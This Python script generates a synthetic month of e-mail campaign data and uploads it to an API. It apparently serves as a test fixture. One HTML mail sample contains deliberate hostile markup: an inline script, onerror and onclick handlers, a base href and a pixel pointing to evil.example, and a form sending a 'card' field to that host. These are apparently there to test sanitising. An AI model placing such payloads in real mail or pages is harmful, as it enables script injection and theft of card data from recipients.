"""A small e-mail program as a client sends it: a month of mailings with deliveries, bounces, opens, clicks, orders."""

import json
import random
import urllib.request
from collections.abc import Iterator
from typing import Any

MINUTE, HOUR, DAY = 60_000, 3_600_000, 86_400_000
MAILINGS = (
    # id, name, subject, days ago, hour, recipients, cost
    (
        "2026-11-black-friday",
        "Black Friday early access",
        "You are in: 24 hours before everybody else",
        0,
        9,
        1400,
        420,
    ),
    ("weekly-46", "Weekly letter, week 46", "Five lamps for the dark months", 5, 8, 1200, 120),
    ("weekly-45", "Weekly letter, week 45", "How we pack, and why it takes a day", 12, 8, 1150, 120),
    ("weekly-44", "Weekly letter, week 44", "New: wool from the Rhön", 19, 8, 1100, 120),
    ("winback-autumn", "We miss you (autumn)", "It has been a while, {{first_name}}", 15, 17, 500, 60),
    ("back-in-stock", "Back in stock", "The kettle is back", 9, 12, 350, 0),
)
DOMAINS = ("gmail.com", "gmail.com", "gmail.com", "outlook.com", "icloud.com", "yahoo.com", "gmx.net", "example.org")
AGENTS = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Microsoft Outlook 16.0.5)",
)
LINKS = (
    "https://shop.example.com/black-friday?utm_source=newsletter",
    "https://shop.example.com/lamps",
    "https://blog.example.com/how-we-pack",
)
REPLIES = (
    ("hard", 550, "5.1.1", "550 5.1.1 The email account that you tried to reach does not exist"),
    ("soft", 552, "5.2.2", "552 5.2.2 The recipient's inbox is out of storage space"),
    ("block", 550, "5.7.1", "550 5.7.1 Message rejected due to the reputation of the sending domain"),
)


def campaigns(now: int) -> list[dict[str, Any]]:
    return [
        {
            "campaign_id": id_,
            "name": name,
            "subject": subject,
            "sender": "Example Shop <letter@news.example.com>",
            "type": "newsletter",
            "total_sent": size,
            "cost": str(cost),
            "currency": "USD",
            "started_at": _start(now, ago, hour),
        }
        for id_, name, subject, ago, hour, size, cost in MAILINGS
    ]


def events(now: int) -> Iterator[dict[str, Any]]:
    chance = random.Random(46)
    for id_, _, subject, ago, hour, size, _ in MAILINGS:
        start = _start(now, ago, hour)
        for number in range(size):
            for event in _message(chance, id_, number, start + chance.randrange(25 * MINUTE)):
                if event["occurred_at"] < now:
                    yield event | {"subject": subject}


def _start(now: int, ago: int, hour: int) -> int:
    # The newest mailing began a few hours ago, whatever the time of day.
    return now - 5 * HOUR if ago == 0 else (now // DAY - ago) * DAY + hour * HOUR


def _message(chance: random.Random, campaign: str, number: int, at: int) -> Iterator[dict[str, Any]]:
    person = f"reader{number}@{DOMAINS[number % len(DOMAINS)]}"
    base = {
        "campaign_id": campaign,
        "message_id": f"{campaign}-{number}",
        "recipient": person,
        "sending_domain": "news.example.com" if number % 4 else "mail.example.com",
        "segment": ("all-customers", "engaged-90d", "new")[number % 3],
        "stream": "marketing",
    }

    def event(type_: str, after: int, **more: Any) -> dict[str, Any]:
        return base | {"type": type_, "occurred_at": at + after, "id": f"{campaign}-{number}-{type_}-{after}"} | more

    if chance.random() < 0.035:
        kind, code, enhanced, reply = chance.choice(REPLIES)
        yield event("bounced", 4000, smtp_code=code, enhanced_code=enhanced, smtp_reply=reply, bounce_class=kind)
        return
    yield event("delivered", 3000 + chance.randrange(20_000))
    agent = chance.choice(AGENTS)
    if chance.random() < 0.12:
        yield event("opened", 45_000, user_agent="Mozilla/5.0", machine=True)
    if chance.random() < 0.38:
        opened = int(chance.expovariate(1 / (5 * HOUR))) + MINUTE
        yield event("opened", opened, user_agent=agent, country=chance.choice(("DE", "DE", "US", "FR")))
        if chance.random() < 0.16:
            clicked = opened + chance.randrange(20_000, 240_000)
            yield event("clicked", clicked, user_agent=AGENTS[2], link_url=chance.choice(LINKS), country="DE")
            if chance.random() < 0.3:
                value = f"{chance.uniform(12, 140):.2f}"
                yield event("converted", clicked + 9 * MINUTE, conversion_type="purchase", value=value, currency="USD")
    if chance.random() < 0.003:
        yield event("unsubscribed", 3 * HOUR, unsubscribe_method="link")
    if chance.random() < 0.001:
        yield event("complained", 4 * HOUR)


MAIL = f"""<html><head><base href="https://evil.example/"><script>document.title = "ran"</script></head><body>
<p><a href="{LINKS[0]}"><img src="https://evil.example/pixel.gif" alt="Black Friday" onerror="alert(1)"></a></p>
<p><a href="{LINKS[1]}" onclick="alert(1)">Lamps</a> or <a href="{LINKS[2]}">how we pack</a></p>
<p><a href="{LINKS[1]}">Lamps again</a></p>
<form action="https://evil.example"><input name="card"><button>Pay</button></form></body></html>"""
"""A mail with one address in two places, and with what must not run, load or submit."""


def put_mail(base: str, key: str) -> None:
    """Send the HTML of the newest mailing."""
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "text/html"}
    url = f"{base}/v1/html/campaigns/{MAILINGS[0][0]}"
    urllib.request.urlopen(urllib.request.Request(url, MAIL.encode(), headers, method="PUT"), timeout=60).close()


def post(url: str, key: str, records: list[dict[str, Any]]) -> dict[str, Any]:
    body = "\n".join(json.dumps(record) for record in records).encode()
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/x-ndjson"}
    with urllib.request.urlopen(urllib.request.Request(url, body, headers), timeout=60) as answer:
        return json.load(answer)


def send_all(base: str, key: str, now: int) -> int:
    """Send the whole program; return how many events that were."""
    post(f"{base}/v1/campaigns", key, campaigns(now))
    put_mail(base, key)
    found = list(events(now))
    for start in range(0, len(found), 1000):
        post(f"{base}/v1/events", key, found[start : start + 1000])
    return len(found)
